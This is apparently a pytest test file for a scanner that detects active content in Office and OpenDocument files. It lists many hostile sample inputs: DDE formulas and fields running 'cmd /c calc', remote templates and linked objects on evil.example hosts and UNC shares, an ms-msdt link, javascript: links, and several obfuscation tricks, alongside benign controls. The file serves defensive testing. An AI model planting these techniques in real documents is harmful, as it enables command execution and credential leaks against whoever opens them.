"""Office files: parts, relationships, fields and formulas that run or load something."""

import io

import pytest

from foundation.inspection.file_contents import find_active_content
from foundation.inspection.file_types import detect_type
from foundation.inspection.office_files import COMMANDS, LOADS, MACROS
from tests.office_files import (
    MICROSOFT,
    OOXML,
    RELATIONS,
    field,
    formula,
    make_office,
    make_zip,
    open_document,
    relations,
    word,
    workbook,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
EXTERNAL = "External"
BROKEN = "The archive is damaged, so it cannot be checked."
TWICE = "The Office file is damaged, so it cannot be checked."
DRAW = "xmlns:draw='d' xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:script='s'"


def reason_of(content):
    return find_active_content(io.BytesIO(content), detect_type(content[:8192]))


def settings(target, kind="attachedTemplate"):
    rels = relations((RELATIONS + kind, target, EXTERNAL))
    return make_office("word", {"word/_rels/settings.xml.rels": rels})


def linked(kind, target, name="word"):
    return make_office(name, outside=[(RELATIONS + kind, target, EXTERNAL)])


def linked_workbook(link):
    name = "xl/externalLinks/externalLink1.xml"
    kind = {name: OOXML + "spreadsheetml.externalLink+xml"}
    return make_office("xl", {name: f"<externalLink>{link}</externalLink>"}, types=kind)


def typed(mime, content="<x/>", name="word/settings2.xml"):
    return make_office("word", {name: content}, types={name: mime})


def text(body):
    return make_office("word", main=word(body))


BEGIN, END = (f"<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>" for kind in ("begin", "end"))


def code(part):
    return f"<w:r><w:instrText>{part}</w:instrText></w:r>"


def nested(start, inner, end):
    """Return a field of Word with another one in its code."""
    return BEGIN + code(start) + field(inner) + code(end) + END


ACTIVE = {
    "a template on a server": (settings("https://evil.example/a.dotm"), LOADS),
    "a template on a share": (settings(r"\\evil.example\a\b.dotm"), LOADS),
    "a template on a share, as a URL": (settings("file://evil.example/a.dotm"), LOADS),
    "a template on a share, in escapes": (settings("file:///%5C%5Cevil.example/a.dotm"), LOADS),
    "a template on a share, in slashes": (settings("file:////evil.example/a.dotm"), LOADS),
    "a template beside": (settings("a.dotm"), LOADS),
    "a template declared as a link": (settings("https://evil.example/a", "hyperlink"), LOADS),
    "a template in another spelling": (
        make_office("word", outside=[
            (RELATIONS.upper() + "AttachedTemplate", " HTTPS://evil.example/a", "EXTERNAL")
        ]), LOADS,
    ),
    "a linked object": (linked("oleObject", "mhtml:http://evil.example!x-usc:a"), LOADS),
    "a frame": (linked("frame", "http://evil.example"), LOADS),
    "a part of a text": (linked("subDocument", "http://evil.example/a.docx"), LOADS),
    "a picture on a server": (linked("image", "http://evil.example/a.png"), LOADS),
    "a picture on a share": (linked("image", "file://evil.example/a.png"), LOADS),
    "a picture on a drive": (linked("image", "file:///c:/a.png"), LOADS),
    "a picture without a mode": (
        make_office("word", outside=[(RELATIONS + "image", "http://evil.example")]), LOADS,
    ),
    "a film": (linked("video", "https://evil.example/a.mp4", "ppt"), LOADS),
    "a workbook on a server": (linked("externalLinkPath", "https://evil.example/a.xlsx"), LOADS),
    "a link that is a script": (linked("hyperlink", "javascript:alert(1)"), LOADS),
    "a link to a tool": (linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), LOADS),
    "a link to a share": (linked("hyperlink", r"\\evil.example\a"), LOADS),
    "macros by their content type": (
        typed("application/vnd.ms-office.vbaProject", "x", "word/other.dat"), MACROS,
    ),
    "a text that may have macros": (
        typed("application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS,
    ),
    "macros declared for a part that is spelled otherwise": (
        make_office("word", types={"word/%64.xml": "application/vnd.ms-word.x.macroEnabled+xml"}),
        MACROS,
    ),
    "macros by their relationship": (
        make_office("word", outside=[(MICROSOFT + "vbaProject", "a.xml")]), MACROS,
    ),
    "macros by their content": (
        make_office("ppt", {"ppt/media/a.png": OLE}), MACROS,
    ),
    "macros declared as XML": (typed("application/xml", OLE), MACROS),
    "macros without a type": (make_office("xl", {"xl/a": OLE}), MACROS),
    "a package in an object": (
        make_office("word", outside=[(RELATIONS + "oleObject", "embeddings/a.dat")]), MACROS,
    ),
    "ActiveX by its relationship": (
        make_office("word", outside=[(RELATIONS + "control", "a.xml")]), MACROS,
    ),
    "ActiveX by its type": (typed("application/vnd.ms-office.activeX+xml"), MACROS),
    "HTML within a text": (typed("text/html", "<html>", "word/a.dat"), MACROS),
    "HTML within a text, by its relationship": (
        make_office("word", outside=[(RELATIONS + "aFChunk", "a.xml")]), MACROS,
    ),
    "commands of the ribbon": (
        make_office("word", outside=[(MICROSOFT + "ui/extensibility", "a.xml")]), MACROS,
    ),
    "a sheet of macros": (typed("application/vnd.ms-excel.macrosheet+xml"), MACROS),
    "a sheet of macros, by its relationship": (
        make_office("xl", outside=[(MICROSOFT + "xlMacrosheet", "a.xml")]), MACROS,
    ),
    "a sheet of macros, by its content": (workbook("<x:macrosheet xmlns:x='x'/>"), COMMANDS),
    "data from a server": (
        make_office("xl", outside=[(RELATIONS + "connections", "connections.xml")]), MACROS,
    ),
    "a DDE link": (linked_workbook("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"), COMMANDS),
    "an OLE link": (linked_workbook("<oleLink progId='Package'/>"), COMMANDS),
    "a DDE formula": (formula("cmd|'/c calc'!A0"), COMMANDS),
    "a DDE formula in quotes": (formula("1+'cmd'|'/c calc'!A0"), COMMANDS),
    "a DDE formula in references": (formula("cmd&#x7C;'/c calc'!A0"), COMMANDS),
    "a DDE formula in pieces": (formula("cm<!-- -->d<![CDATA[|]]>'/c calc'!A0"), COMMANDS),
    "a DDE formula in UTF-16": (
        workbook("<worksheet><f>cmd|'/c calc'!A0</f></worksheet>".encode("utf-16")), COMMANDS,
    ),
    "a DDE formula of a name": (
        make_office("xl", main="<workbook><definedName>cmd|'/c'!A</definedName></workbook>"),
        COMMANDS,
    ),
    "a formula that calls a server": (formula('_xlfn.WEBSERVICE("http://a.example")'), COMMANDS),
    "a DDE field": (text(field(" DDEAUTO c:\\\\cmd.exe ")), COMMANDS),
    "a DDE field in pieces": (text(field("D", "DE", "AUTO calc")), COMMANDS),
    "a DDE field with a computed name": (text(
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>" + field("QUOTE 68 68 69")
        + "<w:r><w:instrText>cmd</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
    ), COMMANDS),
    "a DDE field with half of its name computed": (
        text(nested("D", "QUOTE DEAUTO", " cmd")), COMMANDS,
    ),
    "a DDE field with a name of a simple field": (text(
        BEGIN + "<w:fldSimple w:instr='QUOTE 68 68 69'/>" + code(" cmd") + END
    ), COMMANDS),
    "a DDE field for other versions of Word": (text(
        BEGIN + "<mc:AlternateContent xmlns:mc='mc'><mc:Choice Requires='x'>" + code("PAGE ")
        + "</mc:Choice><mc:Fallback>" + code("D") + code("DEAUTO cmd")
        + "</mc:Fallback></mc:AlternateContent>" + END
    ), COMMANDS),
    "a DDE field in a field": (text(nested("IF 1 = 1 ", "DDEAUTO cmd", "")), COMMANDS),
    "a field that loads a text": (text(field("INCLUDETEXT a.docx")), COMMANDS),
    "a field that loads a picture of a computed address": (
        text(nested("INCLUDEPICTURE ", "QUOTE 104 116 116 112", "")), COMMANDS,
    ),
    "a simple DDE field": (text("<w:fldSimple w:instr='DDE calc'/>"), COMMANDS),
    "a field that loads a picture": (text(field('INCLUDEPICTURE "http://a.example"')), COMMANDS),
    "a program behind a picture": (
        make_office("ppt", main="<p><a action='ppaction://program'/></p>"), COMMANDS,
    ),
    "a DTD": (
        make_office("xl", main="<!DOCTYPE a [<!ENTITY e 'x'>]><workbook>&e;</workbook>"), BROKEN,
    ),
    "an encoding that hides": (
        make_office("xl", main="<?xml version='1.0' encoding='utf-7'?><workbook/>"), BROKEN,
    ),
    "types in a DTD": (
        make_zip({"[Content_Types].xml": "<!DOCTYPE a><Types/>", "xl/workbook.xml": "<x/>"}),
        BROKEN,
    ),
    "a macro of an OpenDocument": (
        open_document(f"<a {DRAW}><script:event-listener xlink:href='vnd.sun.star.script:a'/></a>"),
        COMMANDS,
    ),
    "a macro that a text of OpenDocument runs": (
        open_document("<a xmlns:t='t'><t:execute-macro t:name='a'/></a>"), COMMANDS,
    ),
    "a formula of an OpenDocument that calls a server": (
        open_document("<a xmlns:t='t'><t:c t:formula='of:=WEBSERVICE([.A1])'/></a>", "spreadsheet"),
        COMMANDS,
    ),
    "a formula of an OpenDocument that calls a program": (
        open_document("<a xmlns:t='t'><t:c t:formula='of:=DDE([.A1])'/></a>", "spreadsheet"),
        COMMANDS,
    ),
    "a formula that loads a picture": (formula("_xlfn.IMAGE(A1)"), COMMANDS),
    "a section of an OpenDocument on a server": (
        open_document(f"<a {DRAW}><section-source xlink:href=' http://evil.example/a'/></a>"),
        LOADS,
    ),
    "a picture of an OpenDocument on a server": (
        open_document(f"<a {DRAW}><draw:image xlink:href='http://evil.example/a.png'/></a>"), LOADS,
    ),
}  # fmt: skip
GOOD = {
    "a text": text("<w:p/>"),
    "a text with fields": text(
        field(' TOC \\o "1-3" ') + field(" PAGE ") + field(' HYPERLINK "https://a.example/dde" ')
        + field('INCLUDEPICTURE "/var/folders/a.png" \\* MERGEFORMATINET')
    ),
    "a text with fields in fields": text(
        nested("IF ", "MERGEFIELD Name", " = &quot;&quot; a b") + nested("=", "PAGE", "-1")
        + nested(" SET ", "REF a", "")
    ),
    "a text box with fields": text(
        "<mc:AlternateContent xmlns:mc='mc'><mc:Choice Requires='wps'>" + field(" PAGE ")
        + "</mc:Choice><mc:Fallback>" + field(" PAGE ") + "</mc:Fallback></mc:AlternateContent>"
    ),
    "pictures of a mail": text(
        BEGIN + code('INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET')
        + "<w:r><w:fldChar w:fldCharType='separate'/></w:r>"
        + field('INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET') + END
    ),
    "links": make_office("word", outside=[
        (RELATIONS + "hyperlink", target, EXTERNAL) for target in (
            "https://example.com/a?b=c:d", "mailto:a@example.com", "tel:+15551234", "other.docx",
            "file:///C:/a.docx", "#here", "a.html?x=y:z",
        )
    ]),
    "the template of the writer": settings("file:///C:\\Users\\Ada\\Templates\\letter.dotx"),
    "the template of the writer, elsewhere": settings("file:///Users/ada/My%20Files/letter.dotx"),
    "the template that all texts have": settings("Normal.dotm"),
    "another workbook in a folder": linked("externalLinkPath", "/Users/ada/b.xlsx", "xl"),
    "comments": make_office("word", outside=[
        ("http://schemas.microsoft.com/office/2018/08/relationships/commentsExtensible", "c.xml")
    ]),
    "another workbook": linked("externalLinkPath", "Book%202.xlsx", "xl"),
    "another workbook on a drive": linked("externalLinkPath", "file:///C:\\a\\b.xlsx", "xl"),
    "a formula with a text that looks like a call": formula("IF(A1,&quot;Call (555) 1|2&quot;,0)"),
    "formulas": formula("IF(A1&gt;0,&quot;a|b&quot;,'P|L'!A1)+Table1[Debit|Credit]"),
    "an absolute value": text("<m:f xmlns:m='m'><m:num><m:t>|x|</m:t></m:num></m:f>"),
    "a chart of openpyxl": make_office(
        "xl", {"xl/charts/chart1.xml": "<chart><title><tx/></title><style val='1'/></chart>"},
        types={"xl/charts/chart1.xml": OOXML + "drawingml.chart+xml"},
    ),
    "a form control": make_office(
        "xl", {"xl/ctrlProps/ctrlProp1.xml": "<formControlPr/>"},
        types={"xl/ctrlProps/ctrlProp1.xml": "application/vnd.ms-excel.controlproperties+xml"},
        outside=[(RELATIONS + "ctrlProp", "ctrlProps/ctrlProp1.xml")],
    ),
    "a chart with its workbook": make_office(
        "ppt", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": formula("SUM(A1:A3)")},
        defaults={"xlsx": OOXML + "spreadsheetml.sheet"},
        outside=[(RELATIONS + "package", "embeddings/Microsoft_Excel_Sheet1.xlsx")],
    ),
    "settings of a printer": make_office(
        "xl", {"xl/printerSettings/printerSettings1.bin": bytes(range(256)) * 4},
        defaults={"bin": OOXML + "spreadsheetml.printerSettings"},
    ),
    "icons and fonts": make_office(
        "ppt", {"ppt/media/image1.svg": "<svg/>", "ppt/fonts/a.fntdata": b"\0\1\0\0" + bytes(99)},
        defaults={"svg": "image/svg+xml", "fntdata": "application/x-fontdata"},
    ),
    "notes of an author": typed(OOXML + "customXmlProperties+xml", "<a xmlns='x'>| &#10;</a>"),
    "a member that no program loads": make_office("word", {"[trash]/0000.dat": bytes(99)}),
    "a slide that leads on": make_office(
        "ppt", main="<p><a action='ppaction://hlinkshowjump?jump=nextslide'/></p>"
    ),
    "formulas of an OpenDocument": open_document(
        "<a xmlns:t='t'><t:c t:formula='of:=SUM([.A1:.A3])'/></a>", "spreadsheet"
    ),
    "an OpenDocument": open_document(
        f"<a {DRAW}><draw:image xlink:href='Pictures/a.png'/>"
        "<draw:object xlink:href='./Object 1'/><a xlink:href='https://example.com'/></a>"
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", ACTIVE)
def test_an_active_office_file_is_found(case):
    content, reason = ACTIVE[case]

    assert reason_of(content) == reason


@pytest.mark.parametrize("case", GOOD)
def test_an_ordinary_office_file_is_taken(case):
    assert reason_of(GOOD[case]) == ""


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_that_is_there_twice_is_found():
    twice = make_zip([("[Content_Types].xml", "<Types/>"), ("xl/a.xml", "<a/>"), ("XL/A.xml", "")])

    assert reason_of(twice) == TWICE


def test_an_active_workbook_within_a_presentation_is_found():
    content = make_office(
        "ppt",
        {"ppt/embeddings/a.xlsx": formula("cmd|'/c calc'!A0")},
        defaults={"xlsx": OOXML + "spreadsheetml.sheet"},
    )

    assert reason_of(content) == COMMANDS


def test_a_large_part_that_has_nothing_to_hide_is_taken():
    row = "<row><c r='A1' t='s'><v>123</v></c><c r='B1'><v>12.5</v></c></row>"

    assert reason_of(workbook(f"<worksheet>{row * 300_000}</worksheet>")) == ""
